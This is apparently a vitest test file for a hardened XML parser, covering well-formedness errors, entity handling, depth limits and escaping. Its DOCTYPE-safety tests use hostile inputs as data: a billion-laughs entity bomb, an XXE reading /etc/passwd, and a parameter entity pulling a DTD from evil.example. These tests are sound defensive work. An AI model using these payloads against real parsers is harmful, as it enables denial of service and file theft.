// The safe XML parser: well-formed input parses into the expected tree; malformed and hostile input is
// refused with a line/column message; no entity is ever expanded beyond the five predefined ones.
import { describe, expect, it } from 'vitest'
import { XmlError, childElements, escapeXmlAttr, escapeXmlText, localName, parseXml, textContent } from '../../src/core/xml'

function errorOf(xml: string, label?: string): XmlError {
  try {
    parseXml(xml, { label })
  } catch (e) {
    if (e instanceof XmlError) return e
    throw e
  }
  throw new Error('expected an XmlError')
}

describe('parseXml', () => {
  it('parses elements, attributes, text, CDATA, comments and processing instructions', () => {
    const doc = parseXml(
      '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- c -->\n<root xmlns="urn:x" xml:lang=\'en\'>' +
        '<a type="t">one <![CDATA[<two> & ]]>three</a><?pi data?><b/><!-- inner --><c:d x="1"/></root>\n',
    )
    expect(doc.root.name).toBe('root')
    expect(doc.root.attrs['xml:lang']).toBe('en')
    const [a, b, d] = childElements(doc.root)
    expect(a.attrs.type).toBe('t')
    expect(a.children).toEqual(['one <two> & three'])
    expect(b.name).toBe('b')
    expect(localName(d.name)).toBe('d')
    expect(doc.position(a.offset)).toEqual({ line: 3, column: 35 })
  })

  it('decodes the five predefined entities and numeric references only', () => {
    const doc = parseXml('<a t="&quot;&apos;&#x9;">&lt;&gt;&amp;&#228;&#x1F600;&#13;</a>')
    expect(textContent(doc.root)).toBe('<>&ä😀\r')
    expect(doc.root.attrs.t).toBe('"\'\t')
    expect(errorOf('<a>&nbsp;</a>').reason).toMatch(/unknown entity &nbsp;/)
    expect(errorOf('<a>&#0;</a>').reason).toMatch(/invalid character reference/)
    expect(errorOf('<a>AT&T</a>').reason).toMatch(/unescaped "&"/)
  })

  it('normalises line endings, keeps &#13;, and normalises whitespace in attributes', () => {
    const doc = parseXml('<a x="1\n2\t3">l1\r\nl2\rl3&#13;\n</a>')
    expect(textContent(doc.root)).toBe('l1\nl2\nl3\r\n')
    expect(doc.root.attrs.x).toBe('1 2 3')
  })

  it('reports mismatched tags with line and column', () => {
    const xml = '<tbx>\n  <body>\n    <conceptEntry>\n      <langSec>\n    </conceptEntry>\n  </body>\n</tbx>'
    const e = errorOf(xml, 'tbx')
    expect(e.message).toBe('tbx: line 5, column 5: expected </langSec>, found </conceptEntry>')
    expect([e.line, e.column]).toEqual([5, 5])
  })

  it('reports unexpected end of file, stray end tags and content outside the root', () => {
    expect(errorOf('<a><b></b>').message).toBe('xml: line 1, column 11: unexpected end of file: expected </a>')
    expect(errorOf('<a></a></b>').reason).toMatch(/unexpected end tag <\/b>|second root|after the root/)
    expect(errorOf('<a></a><b></b>').reason).toMatch(/second root element <b>/)
    expect(errorOf('<a></a>text').reason).toBe('text after the root element')
    expect(errorOf('hello <a></a>').reason).toBe('text before the root element')
    expect(errorOf('').reason).toMatch(/no root element/)
    expect(errorOf('<a><!-- never closed</a>').reason).toBe('unterminated comment')
  })

  it('reports bad attributes', () => {
    expect(errorOf('<a x="1" x="2"/>').reason).toBe('duplicate attribute x on <a>')
    expect(errorOf('<a x="<"/>').reason).toMatch(/"<" is not allowed/)
    expect(errorOf('<a x=1/>').reason).toMatch(/quoted value/)
    expect(errorOf('<a x="1/>').reason).toMatch(/unterminated value/)
  })

  it('treats __proto__ as an ordinary attribute name', () => {
    const doc = parseXml('<a __proto__="x" constructor="y"/>')
    expect(doc.root.attrs.__proto__).toBe('x')
    expect(({} as Record<string, unknown>).x).toBeUndefined()
  })

  it('refuses control characters', () => {
    expect(errorOf('<a>\u0001</a>').reason).toBe('invalid character U+0001 (not allowed in XML)')
  })

  it('streams: elements at the take depth go to the caller as they close, with ancestors and positions, and leave the tree', () => {
    const seen: string[] = []
    const doc = parseXml('<r>\n <body>\n  <e id="1"><t>one</t></e>\n  <e id="2"/>\n  <x>kept</x>\n </body>\n</r>', {
      takeDepth: 2,
      take: (el, ancestors, position) => {
        seen.push(`${el.name}#${el.attrs.id ?? ''}@${position(el.offset).line} in ${ancestors.map((a) => a.name).join('>')} ${textContent(el)}`)
        return el.name === 'e'
      },
    })
    expect(seen).toEqual(['e#1@3 in r>body one', 'e#2@4 in r>body ', 'x#@5 in r>body kept'])
    const body = childElements(doc.root)[0]
    expect(childElements(body).map((e) => e.name)).toEqual(['x'])
    // A document broken after the taken elements is still refused as a whole.
    expect(() => parseXml('<r><body><e/></body>', { takeDepth: 2, take: () => true })).toThrow(/expected <\/r>/)
  })

  it('limits nesting depth', () => {
    const deep = '<a>'.repeat(300) + '</a>'.repeat(300)
    expect(errorOf(deep).reason).toMatch(/nested deeper than 256/)
    expect(() => parseXml('<a>'.repeat(100) + '</a>'.repeat(100))).not.toThrow()
  })
})

describe('DOCTYPE safety', () => {
  it('ignores a DOCTYPE without internal subset (never fetched)', () => {
    const doc = parseXml('<?xml version="1.0"?>\n<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">\n<martif/>')
    expect(doc.root.name).toBe('martif')
  })

  it('refuses entity declarations: billion laughs', () => {
    const bomb =
      '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">\n]>\n<lolz>&lol2;</lolz>'
    const e = errorOf(bomb, 'tbx')
    expect(e.message).toMatch(/^tbx: line 3, column 2: the DOCTYPE declares entities/)
    expect(e.message).toMatch(/billion laughs/)
  })

  it('refuses external entities (XXE)', () => {
    const xxe = '<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]><foo>&xxe;</foo>'
    expect(errorOf(xxe).reason).toMatch(/declares entities/)
    const param = '<!DOCTYPE foo [ <!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; ]><foo/>'
    expect(errorOf(param).reason).toMatch(/declares entities/)
  })

  it('allows an internal subset without entities, and refuses a second DOCTYPE', () => {
    expect(parseXml('<!DOCTYPE a [ <!ATTLIST a x CDATA "]>"> ]><a/>').root.name).toBe('a')
    expect(errorOf('<!DOCTYPE a><!DOCTYPE a><a/>').reason).toMatch(/only allowed once/)
  })
})

describe('escaping', () => {
  it('escapes text and attributes so that they parse back', () => {
    const s = 'a < b & "c" \'d\' ]]> \r\n\t end'
    const doc = parseXml(`<a x="${escapeXmlAttr(s)}">${escapeXmlText(s)}</a>`)
    expect(doc.root.attrs.x).toBe(s)
    expect(textContent(doc.root)).toBe(s)
  })

  it('refuses characters XML cannot carry, naming the character and where it is', () => {
    expect(() => escapeXmlText('a\u0000b')).toThrow(/the text "a\\u0000b" contains U\+0000 at character 2, which XML cannot carry/)
    expect(() => escapeXmlText('ab\ud800c')).toThrow(/a lone surrogate \(U\+D800\) at character 3/)
    expect(() => escapeXmlAttr('\u000b')).toThrow(/U\+000B/)
    expect(escapeXmlText('😀')).toBe('😀')
  })
})
